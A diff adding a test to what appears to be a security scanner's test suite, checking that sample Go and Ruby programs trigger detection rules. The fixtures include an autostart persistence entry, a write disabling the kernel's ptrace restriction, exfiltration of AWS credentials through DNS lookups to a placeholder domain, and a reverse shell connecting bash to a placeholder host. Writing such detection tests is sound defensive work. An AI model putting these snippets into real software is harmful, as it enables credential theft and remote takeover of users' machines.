@@ -192,6 +192,37 @@ def test_home_deleted_by_languages_without_a_parser(tmp_path: Path) -> None:
     assert not _blocked(tmp_path / "c", {"clean.go": good_go, "clean.rb": good_rb})
 
 
+def test_light_reading_of_persistence_kernel_dns_and_reverse_shells(tmp_path: Path) -> None:
+    unit = (
+        'package main\n\nimport (\n\t"os"\n\t"path/filepath"\n)\n\nfunc main() {\n\th, _ := os.UserHomeDir()\n'
+        '\tp := filepath.Join(h, ".config", "autostart", "sync.desktop")\n'
+        '\tos.WriteFile(p, []byte("[Desktop Entry]\\nExec=/tmp/s\\n"), 0o644)\n}\n'
+    )
+    assert "SY-FLOW-003" in _blocked(tmp_path / "a", {"main.go": unit})
+    knob = "File.write('/proc/sys/kernel/yama/ptrace_scope', '0')\n"
+    assert "SY-FLOW-005" in _blocked(tmp_path / "b", {"tune.rb": knob})
+    dns = (
+        "require 'resolv'\nkey = File.read(File.join(Dir.home, '.aws', 'credentials')).unpack1('H*')\n"
+        'key.scan(/.{1,50}/).each { |c| Resolv.getaddress("#{c}.t.example.invalid") rescue nil }\n'
+    )
+    assert "SY-FLOW-001" in _blocked(tmp_path / "c", {"check.rb": dns})
+    shell = (
+        'package main\n\nimport (\n\t"net"\n\t"os/exec"\n)\n\nfunc main() {\n'
+        '\tc, _ := net.Dial("tcp", "support.example.invalid:443")\n\tsh := exec.Command("/bin/bash", "-i")\n'
+        "\tsh.Stdin = c\n\tsh.Stdout = c\n\tsh.Run()\n}\n"
+    )
+    assert "SY-FLOW-006" in _blocked(tmp_path / "d", {"debug.go": shell})
+    # reading a kernel setting, resolving a name the user gives, a local shell, a report written
+    good = (
+        'package main\n\nimport (\n\t"fmt"\n\t"net"\n\t"os"\n\t"os/exec"\n)\n\nfunc main() {\n'
+        '\tb, _ := os.ReadFile("/proc/sys/vm/swappiness")\n\tos.WriteFile("report.txt", b, 0o644)\n'
+        '\taddrs, _ := net.LookupHost(fmt.Sprintf("www.%s", os.Args[1]))\n\tfmt.Println(addrs)\n'
+        '\tl, _ := net.Listen("tcp", "127.0.0.1:8080")\n\t_ = l\n\tsh := exec.Command("sh")\n'
+        "\tsh.Stdin = os.Stdin\n\tsh.Run()\n}\n"
+    )
+    assert not _blocked(tmp_path / "e", {"main.go": good})
+
+
 # ---------------------------------------------------------------- JavaScript
 
 
